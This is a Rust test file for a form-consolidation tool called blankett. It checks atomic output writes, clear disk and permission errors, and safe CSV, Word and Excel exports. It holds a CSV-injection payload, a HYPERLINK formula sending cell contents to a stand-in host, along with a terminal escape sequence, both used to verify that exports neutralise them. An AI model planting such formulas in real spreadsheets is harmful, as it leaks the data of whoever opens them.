//! Output safety: an output is replaced whole or not at all; a disk that fills up, a folder
//! that cannot be written and an output path that is no folder give a clear error and leave
//! earlier results as they were. Exports cannot be turned against their readers: the CSV for
//! Excel runs no formula an answer holds, and no character XML cannot hold (from a submission
//! edited by hand) keeps the Word report or the spreadsheet from opening.

use std::path::{Path, PathBuf};
use std::process::Command as Process;

use crate::common::{assert_package_well_formed, blankett, example};
use predicates::prelude::*;
use serde_json::{Value, json};

/// Runs blankett with a file size limit of 1 KiB, as if the disk filled up after the first
/// kilobyte of every file. `trap '' XFSZ` makes writes past the limit fail (EFBIG) instead of
/// killing the process; an ignored signal stays ignored across `exec`.
fn with_full_disk(args: &[&str]) -> std::process::Output {
    let bin = assert_cmd::cargo::cargo_bin("blankett");
    let quoted: Vec<String> = args.iter().map(|a| format!("'{a}'")).collect();
    Process::new("bash")
        .arg("-c")
        .arg(format!(
            "trap '' XFSZ; ulimit -f 1; exec '{}' {}",
            bin.display(),
            quoted.join(" ")
        ))
        .output()
        .unwrap()
}

fn listing(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn a_full_disk_leaves_the_earlier_result_whole() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("svar.json");
    blankett()
        .args(["convert", "-o"])
        .arg(&out)
        .arg(example())
        .assert()
        .success();
    let before = std::fs::read(&out).unwrap();
    assert!(before.len() > 4096);
    let run = with_full_disk(&[
        "convert",
        "--round",
        "2022-T2",
        "-o",
        out.to_str().unwrap(),
        example().to_str().unwrap(),
    ]);
    assert_eq!(run.status.code(), Some(1));
    let stderr = String::from_utf8(run.stderr).unwrap();
    assert!(
        stderr.starts_with(&format!("blankett: {}: cannot write it: ", out.display())),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read(&out).unwrap(),
        before,
        "the earlier result is untouched"
    );
    assert_eq!(
        listing(dir.path()),
        vec!["svar.json"],
        "no temporary file is left"
    );
}

#[test]
fn a_full_disk_in_a_batch_names_what_could_not_be_written() {
    let dir = tempfile::tempdir().unwrap();
    let inbox = dir.path().join("inkorg");
    std::fs::create_dir_all(&inbox).unwrap();
    std::fs::copy(example(), inbox.join("ostermalm.docx")).unwrap();
    let out = dir.path().join("ut");
    blankett()
        .args(["batch", "--out"])
        .arg(&out)
        .arg(&inbox)
        .assert()
        .success();
    let subs = out.join("submissions");
    let before: Vec<(String, Vec<u8>)> = listing(&subs)
        .into_iter()
        .map(|n| (n.clone(), std::fs::read(subs.join(&n)).unwrap()))
        .collect();
    let run = with_full_disk(&[
        "batch",
        "--force",
        "--round",
        "2022-T2",
        "--out",
        out.to_str().unwrap(),
        inbox.to_str().unwrap(),
    ]);
    assert_eq!(run.status.code(), Some(1));
    let stderr = String::from_utf8(run.stderr).unwrap();
    assert!(stderr.contains("cannot write"), "{stderr}");
    for (name, bytes) in before {
        assert_eq!(
            std::fs::read(subs.join(&name)).unwrap(),
            bytes,
            "{name} untouched"
        );
    }
    assert!(
        listing(&subs).iter().all(|n| !n.ends_with(".tmp")),
        "no temporary file is left: {:?}",
        listing(&subs)
    );
}

#[test]
fn an_output_path_that_is_no_folder_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let not_a_dir = dir.path().join("fil");
    std::fs::write(&not_a_dir, b"x").unwrap();
    blankett()
        .args(["batch", "--out"])
        .arg(&not_a_dir)
        .arg(dir.path())
        .assert()
        .code(2)
        .stderr(format!(
            "blankett: {}: not a folder; give a folder for --out (it is made when missing)\n",
            not_a_dir.display()
        ));
    blankett()
        .args(["convert", "-o"])
        .arg(not_a_dir.join("svar.json"))
        .arg(example())
        .assert()
        .code(1)
        .stderr(
            predicate::str::contains("cannot write it:")
                .and(predicate::str::contains("fil is a file, not a folder")),
        );
    assert_eq!(std::fs::read(&not_a_dir).unwrap(), b"x");
}

#[test]
fn a_read_only_folder_is_a_clear_error() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let ro = dir.path().join("skrivskyddad");
    std::fs::create_dir_all(&ro).unwrap();
    std::fs::write(ro.join("svar.json"), b"earlier").unwrap();
    std::fs::set_permissions(&ro, std::fs::Permissions::from_mode(0o555)).unwrap();
    as_a_user_who_cannot_write(dir.path())
        .args(["convert", "-o"])
        .arg(ro.join("svar.json"))
        .arg(dir.path().join("form.docx"))
        .assert()
        .code(1)
        .stderr(predicate::str::contains(
            "cannot write it: permission denied",
        ));
    assert_eq!(std::fs::read(ro.join("svar.json")).unwrap(), b"earlier");
    std::fs::set_permissions(&ro, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// The binary, run so that a read-only folder stops it: as this user, or, when this user is
/// root (who writes anywhere, as in CI), as `nobody` through `runuser`, with the binary and the
/// example form copied into `dir` where that user can reach them.
fn as_a_user_who_cannot_write(dir: &Path) -> assert_cmd::Command {
    use std::os::unix::fs::PermissionsExt;
    std::fs::copy(example(), dir.join("form.docx")).unwrap();
    let probe = dir.join("probe");
    std::fs::create_dir(&probe).unwrap();
    std::fs::set_permissions(&probe, std::fs::Permissions::from_mode(0o555)).unwrap();
    let root = std::fs::write(probe.join("x"), b"").is_ok();
    if !root {
        return blankett();
    }
    let bin = dir.join("blankett");
    std::fs::copy(assert_cmd::cargo::cargo_bin("blankett"), &bin).unwrap();
    for p in [dir, &dir.join("form.docx"), &bin] {
        let mode = if p.is_dir() || *p == bin {
            0o755
        } else {
            0o644
        };
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    let mut cmd = assert_cmd::Command::new("runuser");
    cmd.args(["-u", "nobody", "--"]).arg(&bin);
    cmd
}

/// The example form's submission, converted by the binary, with `edit` applied to its JSON as
/// someone editing it by hand would.
fn edited_submission(dir: &Path, edit: impl FnOnce(&mut Value)) -> PathBuf {
    let path = dir.join("ostermalm.json");
    blankett()
        .args(["convert", "-o"])
        .arg(&path)
        .arg(example())
        .assert()
        .success();
    let mut v: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    edit(&mut v);
    std::fs::write(&path, serde_json::to_vec_pretty(&v).unwrap()).unwrap();
    path
}

/// The question whose answer the tests change.
const QUESTION: &str = "samverkan-lokalt-naringsliv";

/// Sets the answer to `QUESTION` to one paragraph of `text`.
fn set_answer(v: &mut Value, text: &str) {
    let answer = v["answers"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|a| a["questionId"] == QUESTION)
        .unwrap();
    answer["text"] = json!(text);
    answer["blocks"] = json!([{ "kind": "paragraph", "text": text }]);
}

/// The CSV's rows as maps from column to field, the byte order mark dropped.
fn csv_rows(bytes: &[u8], delimiter: u8) -> Vec<std::collections::HashMap<String, String>> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    let mut r = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .from_reader(bytes);
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    r.records()
        .map(|rec| {
            header
                .iter()
                .cloned()
                .zip(rec.unwrap().iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

#[test]
fn a_formula_in_an_answer_stays_text_in_the_csv_for_excel_and_raw_in_the_plain_csv() {
    const FORMULA: &str = "=HYPERLINK(\"https://x.example/?d=\"&A1;\"Klicka här\")";
    let dir = tempfile::tempdir().unwrap();
    let sub = edited_submission(dir.path(), |v| set_answer(v, FORMULA));
    for (base, delimiter) in [("excel", ";"), ("plain", ",")] {
        blankett()
            .args([
                "consolidate",
                "--format",
                "csv",
                "--delimiter",
                delimiter,
                "-o",
            ])
            .arg(dir.path().join(base))
            .arg(&sub)
            .assert()
            .success();
    }
    let excel = std::fs::read(dir.path().join("excel.csv")).unwrap();
    let plain = std::fs::read(dir.path().join("plain.csv")).unwrap();
    assert!(excel.starts_with("\u{feff}".as_bytes()));
    assert!(!plain.starts_with("\u{feff}".as_bytes()));
    let (excel, plain) = (csv_rows(&excel, b';'), csv_rows(&plain, b','));
    let ostermalm = |rows: &[std::collections::HashMap<String, String>]| {
        rows.iter()
            .find(|r| r["respondent_id"] == "ostermalm-sdn" && r["question_id"] == QUESTION)
            .cloned()
            .unwrap()
    };
    let (e, p) = (ostermalm(&excel), ostermalm(&plain));
    assert_eq!(e["answer"], format!("'{FORMULA}"));
    assert_eq!(p["answer"], FORMULA);
    assert_eq!(e["contact_phone"], "'+46 8 508 100 51");
    assert_eq!(p["contact_phone"], "+46 8 508 100 51");
    // No field of the CSV for Excel starts like a formula.
    for row in &excel {
        for (column, field) in row {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{column}: {field:?}"
            );
        }
    }
    assert_eq!(excel.len(), plain.len());
}

#[test]
fn characters_xml_cannot_hold_in_a_submission_keep_neither_report_nor_spreadsheet_from_opening() {
    let dir = tempfile::tempdir().unwrap();
    let sub = edited_submission(dir.path(), |v| {
        set_answer(v, "Före\u{FFFE}\u{1}\u{8} efter\u{FFFF}\u{1B}[2J");
        v["contact"]["name"] = json!("Helena\u{1} Näslund\u{FFFE}");
        v["source"]["file"] = json!("ostermalm\u{7}.docx");
    });
    let base = dir.path().join("runda");
    blankett()
        .args(["consolidate", "--format", "docx,xlsx,md", "-o"])
        .arg(&base)
        .arg(&sub)
        .assert()
        .success();
    let docx = std::fs::read(base.with_extension("docx")).unwrap();
    let xlsx = std::fs::read(base.with_extension("xlsx")).unwrap();
    assert_package_well_formed(&docx);
    assert_package_well_formed(&xlsx);

    // What is visible of the answer is kept, in the report and in the sheet "Svar".
    let document = crate::common::part(&docx, "word/document.xml");
    assert!(document.contains(">Före efter[2J<"), "{document}");
    let shared = crate::common::part(&xlsx, "xl/sharedStrings.xml");
    for kept in [">Före efter[2J<", ">Helena Näslund<"] {
        assert!(shared.contains(kept), "{kept} in {shared}");
    }
    assert!(
        !shared.contains("_x"),
        "no escaped control character: {shared}"
    );
    let md = std::fs::read_to_string(base.with_extension("md")).unwrap();
    assert!(md.contains("\nFöre efter\\[2J\n"), "{md}");
    assert!(
        md.chars().all(|c| !c.is_control() || c == '\n'),
        "no control character reaches the terminal"
    );
}
